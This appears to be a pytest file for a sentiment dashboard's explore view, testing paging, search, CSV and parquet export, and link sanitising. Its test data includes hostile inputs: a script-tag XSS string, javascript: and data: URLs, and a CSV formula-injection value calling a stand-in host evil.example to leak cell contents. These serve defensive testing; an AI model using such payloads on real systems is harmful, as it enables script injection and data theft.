"""What Explore loads, finds, shows and hands out."""

import csv
import io
from datetime import UTC, datetime

import pandas as pd
import pytest

from dashboard.data import explore
from dashboard.data.errors import ServiceError
from dashboard.data.explore import (
    all_of,
    csv_of,
    empty_message,
    engine_scores,
    fields,
    first,
    matches,
    older,
    parquet_of,
    table,
    web_address,
)
from dashboard.data.filters import Filters
from echostream.domain.codec import scored_to_wire
from echostream_client.api import ApiFailed
from tests.builders import scored

NOW = datetime(2026, 5, 21, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script> \u202eback \u200d" + "x" * 10_000


class Api:
    """Documents, newest first, in pages of `limit`; the cursor is a place."""

    def __init__(self, number):
        self.documents = [
            scored_to_wire(scored(f"d{i}", text=f"number {i}")) for i in range(number)
        ]
        self.fails_at = None

    def query(self, limit, cursor=None, **_):
        at = int(cursor or 0)
        if self.fails_at is not None and at >= self.fails_at:
            raise ApiFailed(500, "oops", "HTTP 500: oops")
        end = at + limit
        rest = str(end) if end < len(self.documents) else None
        return {"documents": self.documents[at:end], "cursor": rest}


def test_everything_is_loaded_page_by_page(monkeypatch):
    """Each once, up to the limit, which is told from the end."""
    monkeypatch.setattr(explore, "PAGE", 10)
    monkeypatch.setattr(explore, "MAX_DOCUMENTS", 30)
    steps = list(all_of(api := Api(25), first(api, Filters(), NOW)))
    assert [len(step.documents) for step in steps] == [20, 25]
    assert not steps[-1].has_more
    assert not steps[-1].is_cut
    [*_, last] = all_of(api := Api(45), first(api, Filters(), NOW))
    assert (len(last.documents), last.has_more, last.is_cut) == (30, False, True)


def test_a_page_that_fails(monkeypatch):
    """Costs nothing of what is loaded."""
    monkeypatch.setattr(explore, "PAGE", 10)
    api = Api(25)
    loaded = first(api, Filters(), NOW)
    api.fails_at = 10
    with pytest.raises(ServiceError, match="HTTP 500"):
        older(api, loaded)
    assert len(loaded.documents) == 10


def test_search():
    """In text, author and source, whatever the case; nothing wanted finds all."""
    documents = Api(12).documents
    assert len(matches(documents, " NUMBER 1 ")) == 3
    assert len(matches(documents, "FORUM")) == 12
    assert matches(documents, "") == documents
    assert matches([{**documents[0], "author": None}], "ann") == []


def test_the_message_without_documents():
    """Different where nothing is loaded, nothing found, and nothing there."""
    api = Api(3)
    loaded = first(api, Filters(), NOW)
    assert empty_message(loaded, 3, "", False) == ""
    assert "None of the 3 loaded documents" in empty_message(loaded, 0, "zebra", False)
    empty = first(Api(0), Filters(), NOW)
    assert "Choose a longer period" in empty_message(empty, 0, "", True)
    assert "send documents" in empty_message(empty, 0, "", False)


def test_a_hostile_document():
    """Is shortened in the table, whole where it is open, and exact in both files."""
    other = {**scored_to_wire(scored("x")), "engine": "comprehend", "engine_version": "v"}
    document = {**scored_to_wire(scored("d", text=HOSTILE)), "others": [other]}
    assert len(table([document])["text"][0]) < 310
    assert "Neutral" in list(fields(document)["Value"])
    assert list(engine_scores(document)["Engine"]) == ["vader", "comprehend"]
    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
    assert row["text"] == HOSTILE
    assert (row["scores_neutral"], row["comprehend_sentiment"]) == ("1.0", "NEUTRAL")
    read = pd.read_parquet(io.BytesIO(parquet_of([document])))
    assert read["text"][0] == HOSTILE
    assert str(read["created_at"].dtype).startswith("datetime64")
    assert read["scores_neutral"][0] == 1.0


@pytest.mark.parametrize(
    "url", [None, "", "javascript:alert(1)", "data:text/html,x", "//example.org", "http://[", "x"]
)
def test_addresses_that_are_none(url):
    """Nothing but the web is linked to."""
    assert web_address(url) is None


def test_an_address():
    """Is kept as it is."""
    assert web_address("https://example.org/?q=<b>") == "https://example.org/?q=<b>"


def test_a_spreadsheet_runs_nothing():
    """A text that begins as a formula does gets an apostrophe in CSV; numbers stay numbers."""
    document = {
        **scored_to_wire(scored("d")),
        "text": '=HYPERLINK("http://evil.example/?"&A2)',
        "author": "@SUM(1)",
        "compound": -0.5,
    }
    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
    assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
    assert row["author"] == "'@SUM(1)"
    assert row["compound"] == "-0.5"
